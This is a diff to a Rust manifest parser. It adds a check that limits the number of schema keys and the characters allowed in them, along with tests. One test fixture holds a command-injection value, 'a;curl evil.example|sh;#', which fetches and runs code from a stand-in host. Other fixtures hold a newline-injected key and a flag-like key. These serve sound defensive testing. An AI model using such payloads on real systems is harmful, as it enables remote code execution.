@@ -1,10 +1,12 @@
 //! What a component says of itself in `describe`: who it is and what it asks for (`wit/manifest.schema.json`).
 
+use super::limits;
 use super::spelling::shown;
 use crate::rules::notification::OnUnknown;
 use crate::rules::origin::Origin;
 use crate::rules::schema;
 use serde::{Deserialize, Serialize};
+use std::collections::BTreeSet;
 
 /// The largest manifest that is read, in bytes.
 const LARGEST: usize = 64 * 1024;
@@ -162,6 +164,32 @@ impl<'de> Deserialize<'de> for Origin {
     }
 }
 
+/// How many keys a component may know, and how many characters each has.
+const MOST_KEYS: usize = 100;
+const LONGEST_KEY: usize = 63;
+
+/// People read the keys of a schema, and type them after a command.
+fn check_keys(schema: &serde_json::Value) -> Result<(), String> {
+    let properties = schema.get("properties").and_then(|all| all.as_object()).into_iter().flat_map(|all| all.keys());
+    let required = schema.get("required").and_then(|all| all.as_array()).into_iter().flatten();
+    let keys: BTreeSet<&str> =
+        properties.map(String::as_str).chain(required.filter_map(serde_json::Value::as_str)).collect();
+    if keys.len() > MOST_KEYS {
+        return Err(format!("has {} keys, and {MOST_KEYS} are the most", keys.len()));
+    }
+    let is_plain = |key: &&str| {
+        let letter = |c: char| c.is_ascii_alphanumeric() || "_-.".contains(c);
+        !key.is_empty() && key.len() <= LONGEST_KEY && !key.starts_with('-') && key.chars().all(letter)
+    };
+    match keys.into_iter().find(|key| !is_plain(key)) {
+        Some(key) => Err(format!(
+            "has the key `{}`: use letters, digits, `_`, `-` and `.`, at most {LONGEST_KEY}",
+            shown(&limits::cut(key, LONGEST_KEY))
+        )),
+        None => Ok(()),
+    }
+}
+
 impl Manifest {
     /// Reads what `describe` returned; the error says what its author must change.
     pub fn parse(text: &str) -> Result<Self, String> {
@@ -189,6 +217,7 @@ impl Manifest {
         for (member, schema) in [("settings", &self.settings), ("extra", &self.extra)] {
             schema::check_schema(schema)
                 .map_err(|why| format!("`{member}` in its manifest is no JSON Schema of an object: {why}"))?;
+            check_keys(schema).map_err(|why| format!("`{member}` in its manifest {why}"))?;
         }
         for (place, secret) in self.secrets.iter().enumerate() {
             if self.secrets[..place].iter().any(|other| other.name == secret.name) {
@@ -276,6 +305,19 @@ mod tests {
             (
                 json!({ "secrets": [{ "name": "t", "purpose": "p" }, { "name": "t", "purpose": "p" }] }),
                 "two secrets `t`",
+            ),
+            (
+                json!({ "settings": { "required": ["a;curl evil.example|sh;#"] } }),
+                "`settings` in its manifest has the key `a;curl evil",
+            ),
+            (
+                json!({ "extra": { "properties": { "a\nThe target is paused.": {} } } }),
+                "`extra` in its manifest has the key `a\\nThe",
+            ),
+            (json!({ "settings": { "properties": { "--name": {} } } }), "has the key `--name`"),
+            (
+                json!({ "settings": { "required": (0..101).map(|n| format!("k{n}")).collect::<Vec<_>>() } }),
+                "has 101 keys",
             ),
             (json!({ "settings": { "type": "array" } }), "`settings` in its manifest is no JSON Schema"),
             (json!({ "extra": { "properties": { "a": { "type": "strin" } } } }), "`extra` in its manifest is no"),
